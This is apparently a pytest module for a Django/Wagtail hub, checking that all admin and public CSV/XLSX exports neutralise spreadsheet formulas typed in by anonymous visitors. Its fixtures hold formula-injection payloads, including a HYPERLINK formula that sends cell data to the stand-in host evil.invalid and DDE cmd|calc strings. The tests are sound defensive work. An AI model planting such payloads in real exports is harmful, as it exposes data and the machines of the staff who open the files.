"""Every table the hub produces, public or admin, CSV or XLSX, neutralises
spreadsheet formulas typed by anonymous visitors (issue 12, Major 3).

The hostile values arrive the way an attacker would send them: an
organization proposed through the public form, an initiative posted through
the public form, a query typed into the site search. Each export must carry
them (positive control) only in their guarded form (`'=...`).
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from consultations.factories import CaseFactory
from directory.models import Organization
from hub.tabular import FORMULA, SafeSpreadsheetExportMixin, safe_cell
from initiatives import factories as initiative_factories
from initiatives.models import Initiative
from tests.admin_exports import exported_file, exporting_viewsets
from tests.directory.test_proposal import PROPOSE, new_entry
from tests.initiatives.public_helpers import SUBMIT_URL, form_data, published
from timebank import factories as timebank_factories

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.invalid/?"&A2,"x")'
HOSTILE_TITLE = "=cmd|' /C calc'!A0"
HOSTILE_QUERY = "@sum(1+1)*cmd|' /c calc'!a0"  # the search stores it lowercased
HOSTILE_VALUES = (HOSTILE_NAME, HOSTILE_TITLE, HOSTILE_QUERY)


def csv_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else None
    text = (content or response.content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else None
    workbook = load_workbook(io.BytesIO(content or response.content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if cell.value is not None:
                    cells.append(cell.value)
    return cells


def assert_guarded(cells):
    """No cell starts a formula, and at least one hostile value is there."""
    texts = [cell for cell in cells if isinstance(cell, str)]
    running = [cell for cell in texts if FORMULA.match(cell)]
    assert running == []
    assert {safe_cell(value) for value in HOSTILE_VALUES} & set(texts)


@pytest.fixture
def hostile(client, home_pages):
    """Hostile values entered anonymously, plus what staff record from them."""
    response = client.post(PROPOSE, new_entry(name=HOSTILE_NAME))
    assert response.status_code == 302
    organization = Organization.objects.get(name=HOSTILE_NAME)
    assert not organization.live  # a draft: no staff action was needed

    response = client.post(SUBMIT_URL, form_data(title=HOSTILE_TITLE))
    assert response.status_code == 302
    assert Initiative.objects.filter(title=HOSTILE_TITLE).exists()
    initiative_factories.in_moderation(title=HOSTILE_TITLE)

    client.get("/search/", {"q": HOSTILE_QUERY})

    CaseFactory(organization=organization)
    member = timebank_factories.MemberFactory(first_name=HOSTILE_NAME)
    other = timebank_factories.MemberFactory()
    timebank_factories.exchange(member, other, description=HOSTILE_TITLE)
    return organization


def test_every_viewset_with_exports_declares_the_guard():
    exporting = exporting_viewsets()
    assert len(exporting) >= 5
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin), viewset


def test_wagtail_s_own_export_base_class_is_guarded_too():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert SpreadsheetExportMixin.preprocess_field_value.formula_guard


ADMIN_EXPORTS = [
    "/admin/snippets/directory/organization/",
    "/admin/snippets/initiatives/initiative/",
    "/admin/consultations/",
    "/admin/time-bank/members/",
    "/admin/time-bank/ledger/",
    "/admin/reports/site-history/",  # Wagtail's report
]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("url", ADMIN_EXPORTS)
def test_admin_exports_guard_every_cell(hostile, admin_client, url, export_format):
    response = exported_file(
        admin_client, admin_client.get(url, {"export": export_format})
    )

    assert response.status_code == 200
    cells = csv_cells(response) if export_format == "csv" else xlsx_cells(response)
    assert_guarded(cells)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_unanswered_searches_report_guards_the_typed_query(
    hostile, admin_client, export_format
):
    url = reverse("search_unanswered_queries")
    response = exported_file(
        admin_client, admin_client.get(url, {"export": export_format})
    )

    assert response.status_code == 200
    cells = csv_cells(response) if export_format == "csv" else xlsx_cells(response)
    assert_guarded(cells)
    assert safe_cell(HOSTILE_QUERY) in cells


def publish(organization):
    organization.get_latest_revision().publish()


@pytest.mark.parametrize(
    "url, reader",
    [
        ("/data/organizations.csv", csv_cells),
        ("/data/organizations.xlsx", xlsx_cells),
        ("/data/initiatives.csv", csv_cells),
    ],
)
def test_public_downloads_guard_every_cell(hostile, client, url, reader):
    publish(hostile)
    published(title=HOSTILE_TITLE)

    response = client.get(url)

    assert response.status_code == 200
    assert_guarded(reader(response))


def test_the_directory_table_guards_and_reimports_unchanged(hostile, tmp_path):
    publish(hostile)
    target = tmp_path / "directory.csv"

    call_command("export_directory", str(target))

    cells = [
        cell for row in csv.reader(io.StringIO(target.read_text())) for cell in row
    ]
    assert_guarded(cells)
    from directory.tabular import ValidRow, read_table

    rows = list(read_table(target))
    valid = [row for row in rows if isinstance(row, ValidRow)]
    assert len(valid) == len(rows)
    assert [row.data["name_ka"] for row in valid] == [HOSTILE_NAME]


@pytest.mark.parametrize(
    "value, guarded",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # One rule for phone numbers and negative numbers: a sign followed by
        # ASCII digits, spaces and brackets only cannot call anything.
        ("+995 555 52 02 34", "+995 555 52 02 34"),
        ("-15", "-15"),
        ("+995 (350) 27 00 00", "+995 (350) 27 00 00"),
        ("+١٢٣", "'+١٢٣"),
        ("+995-555", "'+995-555"),
        ("ორგანიზაცია", "ორგანიზაცია"),
    ],
)
def test_one_rule_for_every_cell(value, guarded):
    assert safe_cell(value) == guarded
